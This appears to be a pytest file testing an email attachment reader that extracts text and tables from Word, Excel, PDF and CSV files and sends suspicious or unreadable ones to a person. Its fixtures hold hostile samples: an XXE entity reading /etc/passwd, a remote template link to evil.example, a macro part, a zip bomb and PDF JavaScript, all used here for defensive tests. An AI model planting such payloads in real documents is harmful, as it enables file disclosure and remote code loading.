"""Files of every kind, honest and hostile: text and tables, or the reason why a person must look."""

import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from pikepdf import ObjectStreamMode, Pdf
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from weasyprint import HTML

from mailroom.parsing import parse, part_bytes
from workflows.credit.reading.files.attachments import read_file, read_json
from workflows.credit.reading.letter import MERGED

SAMPLE = Path(__file__).resolve().parents[4] / "fixtures" / "mail_sample"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: str, prolog: str = "", **parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{prolog}<w:document {W}><w:body>{body}</w:body></w:document>',
        )
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(text)}</w:tc>"


def row(*cells: str) -> str:
    return f"<w:tr>{''.join(cells)}</w:tr>"


def xlsx(rows: list[list[object]], merge: str = "") -> bytes:
    book = Workbook()
    for line in rows:
        book.active.append(line)
    if merge:
        book.active.merge_cells(merge)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_docx_gives_its_paragraphs_and_tables():
    said = read_file(
        docx(
            paragraph("Прошу зачесть")
            + f"<w:tbl>{row(cell('Курс'), cell('Часы'))}{row(cell('Лепка'), cell('34'))}</w:tbl>"
        ),
        "a.docx",
        "",
    )
    assert (said.text, said.tables, said.needs_eyes, said.reason) == (
        "Прошу зачесть",
        [[["Курс", "Часы"], ["Лепка", "34"]]],
        False,
        "",
    )


def test_merged_cells_of_a_docx_are_marked_and_never_shift_columns():
    wide, start, more = '<w:gridSpan w:val="2"/>', '<w:vMerge w:val="restart"/>', "<w:vMerge/>"
    table = (
        row(cell("Лепка"), cell("34", start), cell("5"))
        + row(cell("Батик"), cell("", more), cell("4"))
        + row(cell("Итого", wide), cell("34"))
    )
    said = read_file(docx(f"<w:tbl>{table}</w:tbl>"), "a.docx", "")
    assert said.tables == [[["Лепка", "34", "5"], ["Батик", MERGED, "4"], ["Итого", "", "34"]]]


def test_deleted_words_of_a_docx_are_not_read():
    said = read_file(
        docx("<w:p><w:del><w:r><w:delText>68</w:delText></w:r></w:del><w:r><w:t>72</w:t></w:r></w:p>"),
        "a.docx",
        "",
    )
    assert said.text == "72"


def test_a_docx_with_a_document_type_reads_no_file_and_is_refused():
    prolog = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    said = read_file(docx(paragraph("&x;"), prolog), "a.docx", "")
    assert (said.text, said.needs_eyes, said.reason) == (None, True, "doctype_in_file")


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("word__vbaProject.bin", b"x", "active_content"),
        (
            "word___rels__document.xml.rels",
            b'<r Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
            "remote_content",
        ),
    ],
)
def test_active_and_remote_content_is_named_and_the_text_still_read(name, data, reason):
    said = read_file(docx(paragraph("текст"), **{name: data}), "a.docx", "")
    assert (said.text, said.reason) == ("текст", reason)


def test_a_bomb_is_refused_before_it_unpacks():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w>" + b" " * 120_000_000)
    assert len(out.getvalue()) < 1_000_000
    said = read_file(out.getvalue(), "a.docx", "")
    assert (said.text, said.needs_eyes, said.reason) == (None, True, "too_large_inside")


def test_a_file_of_very_many_parts_is_refused():
    parts = {f"word__media__{number}.png": b"" for number in range(2_001)}
    assert read_file(docx(paragraph("текст"), **parts), "a.docx", "").reason == "too_large_inside"


def test_an_xlsx_gives_shown_values_with_merges_marked():
    said = read_file(
        xlsx([["Курс", "Часы", "Оценка"], ["Лепка", 34.0, 5], ["Батик", None, "=1+1"]], "B2:B3"), "a.xlsx", ""
    )
    assert said.tables == [[["Курс", "Часы", "Оценка"], ["Лепка", "34", "5"], ["Батик", MERGED, ""]]]


def test_broken_office_files_are_for_a_person():
    whole = xlsx([["Курс"]])
    for data in (whole[:200], docx("<w:p>")[:60], b"PK\x03\x04 rubbish word/document.xml"):
        said = read_file(data, "a.xlsx", "")
        assert said.needs_eyes and said.reason == "broken_file" or said.reason == "archive"


def test_an_encrypted_pdf_is_for_a_person():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    assert PdfReader(io.BytesIO(out.getvalue())).is_encrypted
    said = read_file(out.getvalue(), "a.pdf", "application/pdf")
    assert (said.needs_eyes, said.reason) == (True, "encrypted_file")


def test_a_scan_without_text_is_for_a_person():
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    said = read_file(out.getvalue(), "scan.pdf", "application/pdf")
    assert (said.needs_eyes, said.reason) == (True, "scan_without_text")


def test_script_in_a_pdf_is_named_even_inside_compressed_objects_and_the_table_still_read():
    raw = (SAMPLE / "009.eml").read_bytes()
    mail = parse(raw)
    writer = PdfWriter(clone_from=io.BytesIO(part_bytes(raw, mail.attachments[0].index)))
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    out = io.BytesIO()
    writer.write(out)
    packed = io.BytesIO()
    with Pdf.open(io.BytesIO(out.getvalue())) as document:
        document.save(packed, object_stream_mode=ObjectStreamMode.generate)
    assert b"JavaScript" not in packed.getvalue()
    said = read_file(packed.getvalue(), "a.pdf", "application/pdf")
    assert said.reason == "active_content"
    assert said.tables[0][1][1] == "144"


@pytest.mark.parametrize(
    ("data", "name", "media_type", "reason"),
    [
        (b"\xff\xd8\xff\xe0 photo", "a.jpg", "image/jpeg", "image"),
        (b"\xff\xd8\xff\xe0 photo", "a.pdf", "application/pdf", "image"),
        (b"PK\x05\x06" + bytes(18), "a.zip", "application/zip", "archive"),
        (b"Rar!\x1a\x07\x00", "a.rar", "application/x-rar", "archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.doc", "application/msword", "encrypted_or_old_office_file"),
        (b"%PDF-1.4 broken", "a.pdf", "application/pdf", "broken_file"),
        (b"<html><script>1</script>", "a.html", "text/html", "active_content"),
        (b"MZ\x90\x00", "a.exe", "application/octet-stream", "unknown_kind_of_file"),
        (b"", "a.pdf", "application/pdf", "empty_file"),
    ],
)
def test_what_cannot_be_read_goes_to_a_person_with_its_reason(data, name, media_type, reason):
    said = read_file(data, name, media_type)
    assert (said.text, said.tables, said.needs_eyes, said.reason) == (None, [], True, reason)


def test_a_signature_file_is_technical_and_calls_nobody():
    said = read_file(b"0\x82", "smime.p7s", "application/pkcs7-signature")
    assert (said.needs_eyes, said.reason) == (False, "technical_part")


def test_text_and_csv_files_in_old_encodings_are_read():
    assert read_file("Лепка, 34 ч".encode("cp1251"), "a.txt", "text/plain").text == "Лепка, 34 ч"
    assert read_file("Курс;Часы\r\nЛепка;34\r\n".encode("cp1251"), "a.csv", "text/csv").tables == [
        [["Курс", "Часы"], ["Лепка", "34"]]
    ]


def test_the_sandbox_entry_takes_a_header_line_and_bytes_and_answers_json():
    payload = (
        json.dumps({"filename": "a.txt", "media_type": "text/plain"}).encode()
        + b"\n"
        + "Лепка\nБатик".encode()
    )
    assert json.loads(read_json(payload)) == {
        "text": "Лепка\nБатик",
        "tables": [],
        "needs_eyes": False,
        "reason": "",
    }


def pdf_of(rows: list[list[str]]) -> bytes:
    cells = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    page = f"<style>td {{ padding-right: 2cm; }}</style><p>Справка об обучении</p><table>{cells}</table>"
    return bytes(HTML(string=page).write_pdf())


def test_a_table_without_rules_is_read_by_its_columns_and_a_wrapped_name_is_put_together():
    rows = [["Курс", "Часы", "Форма", "Оценка"], ["Лепка", "34", "зачёт", "5"], ["Батик", "17", "зачёт", "4"]]
    assert read_file(pdf_of(rows), "a.pdf", "application/pdf").tables == [rows]
    wrapped = [rows[0], ["Лепка<br>из глины", "34", "зачёт", "5"], rows[2]]
    joined = [rows[0], ["Лепка из глины", "34", "зачёт", "5"], rows[2]]
    assert read_file(pdf_of(wrapped), "a.pdf", "application/pdf").tables == [joined]


def test_cells_nearer_than_words_are_parted_where_no_space_stands():
    rows = [["Дисциплина", "Часов", "Форма аттестации", "Результат"], ["Фехтование", "120", "поединки", "5"]]
    rows += [["Ножевой бой: основы", "34", "показ", "82 балла из 100"]]
    cells = "".join(f"<tr>{''.join(f'<td>{cell}</td>' for cell in row)}</tr>" for row in rows)
    said = read_file(
        HTML(string=f"<p>СПРАВКА</p><table>{cells}</table>").write_pdf(), "s.pdf", "application/pdf"
    )
    assert said.tables == [rows]
